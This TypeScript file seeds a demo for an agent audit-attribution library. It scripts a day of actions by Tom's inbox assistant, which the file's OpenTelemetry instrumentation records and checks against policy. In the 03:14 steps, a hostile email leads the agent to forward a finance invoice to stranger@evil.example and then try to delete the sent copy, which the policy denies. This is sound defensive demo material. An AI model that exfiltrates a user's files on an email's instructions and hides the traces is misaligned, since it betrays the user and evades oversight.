import type { Attribution } from '../attribution/attribution.js';
import { withAttribution } from '../attribution/attribution.js';
import { ActionDeniedError, type AuditDetails, audited } from '../attribution/audited.js';

/** The agent of the story: Tom's inbox assistant, with its own non-human identity. */
export const INBOX_AGENT = {
  type: 'agent',
  id: 'nhi:agent-7f3',
  name: 'inbox-agent',
  ownerId: 'tom',
} as const;
/** The hostile email that set the 03:14 actions off. */
export const HOSTILE_TRIGGER = { type: 'email', id: 'msg-8821' } as const;
/** The day the story happens (the seed's date), in UTC. */
export const DEMO_DAY = '2026-01-01';

const tom = { id: 'tom', type: 'human' as const, roles: ['employee'] };
/** How long each replayed action takes, so its `started` row sorts strictly before its result. */
const STEP_DURATION_MS = 240;

const at = (time: string) => Date.parse(`${DEMO_DAY}T${time}Z`);

const agent = (trigger: Attribution['trigger'], intent: string): Attribution => ({
  actor: INBOX_AGENT,
  principal: tom,
  trigger,
  intent: { name: intent },
  scopes: ['mail.read', 'mail.send', 'files.read', 'mail.delete'],
});
const tomHimself: Attribution = { actor: { type: 'human', id: 'tom', name: 'Tom' }, principal: tom };

interface Step {
  who: Attribution;
  action: string;
  details: AuditDetails;
  time: string;
}

/**
 * The seed's story (seed 000): Tom's `inbox-agent` acts for him all day; at 03:14, while Tom sleeps,
 * a hostile email (msg-8821) talks it into forwarding an invoice to a stranger and then trying to
 * delete the evidence. Tom also acts directly during the day. Every step goes through `audited()`.
 */
export const DEMO_STEPS: readonly Step[] = [
  {
    who: agent(HOSTILE_TRIGGER, 'triage_inbox'),
    action: 'read_mail',
    time: '03:14:02',
    details: {
      target: 'inbox/msg-8821',
      riskTier: 0,
      policy: { decision: 'allow', rule: 'mail.read: own inbox' },
    },
  },
  {
    who: agent(HOSTILE_TRIGGER, 'triage_inbox'),
    action: 'search_files',
    time: '03:14:05',
    details: {
      target: 'drive:/finance',
      riskTier: 1,
      arguments: { query: 'invoice 2025-12' },
      policy: { decision: 'allow', rule: 'files.read: own drive' },
    },
  },
  {
    who: agent(HOSTILE_TRIGGER, 'triage_inbox'),
    action: 'send_mail',
    time: '03:14:09',
    details: {
      target: 'stranger@evil.example',
      riskTier: 2,
      arguments: {
        to: 'stranger@evil.example',
        subject: 'Fwd: invoice 2025-12',
        attachment: 'invoice-2025-12.pdf',
      },
      policy: { decision: 'allow', rule: 'mail.send: any recipient' },
    },
  },
  {
    who: agent(HOSTILE_TRIGGER, 'triage_inbox'),
    action: 'delete_mail',
    time: '03:14:12',
    details: {
      target: 'sent/fwd-invoice-2025-12',
      riskTier: 3,
      policy: { decision: 'deny', rule: 'mail.delete: never the sent folder' },
    },
  },
  {
    who: agent({ type: 'schedule', id: 'daily-digest' }, 'daily_digest'),
    action: 'read_mail',
    time: '07:00:01',
    details: { target: 'inbox', riskTier: 0, policy: { decision: 'allow', rule: 'mail.read: own inbox' } },
  },
  {
    who: agent({ type: 'schedule', id: 'daily-digest' }, 'daily_digest'),
    action: 'send_mail',
    time: '07:00:04',
    details: {
      target: 'tom@acme.example',
      riskTier: 1,
      arguments: { to: 'tom@acme.example', subject: 'Your morning digest' },
      policy: { decision: 'allow', rule: 'mail.send: to owner' },
    },
  },
  { who: tomHimself, action: 'read_mail', time: '09:12:40', details: { target: 'inbox', riskTier: 0 } },
  {
    who: tomHimself,
    action: 'send_mail',
    time: '10:05:13',
    details: {
      target: 'dana@acme.example',
      riskTier: 2,
      arguments: { to: 'dana@acme.example', subject: 'Q1 plan' },
    },
  },
  {
    who: agent({ type: 'chat', id: 'chat-5512' }, 'schedule_meeting'),
    action: 'create_event',
    time: '11:30:20',
    details: {
      target: 'calendar:tom',
      riskTier: 1,
      arguments: { title: 'Q1 plan with Dana', attendees: ['dana@acme.example'] },
      policy: { decision: 'allow', rule: 'calendar.write: own calendar' },
    },
  },
  {
    who: tomHimself,
    action: 'approve_invoice',
    time: '14:30:02',
    details: { target: 'invoice-2025-12', riskTier: 3, approval: { state: 'approved', approverId: 'tom' } },
  },
];

/** Runs the story through the active OpenTelemetry SDK; returns how many actions were denied. */
export async function runDemoScenario(): Promise<{ actions: number; denied: number }> {
  let denied = 0;
  for (const step of DEMO_STEPS) {
    await withAttribution(step.who, async () => {
      try {
        await audited(
          step.action,
          { ...step.details, startTime: at(step.time), durationMs: STEP_DURATION_MS },
          () => undefined,
        );
      } catch (err) {
        if (!(err instanceof ActionDeniedError)) throw err;
        denied++;
      }
    });
  }
  return { actions: DEMO_STEPS.length, denied };
}
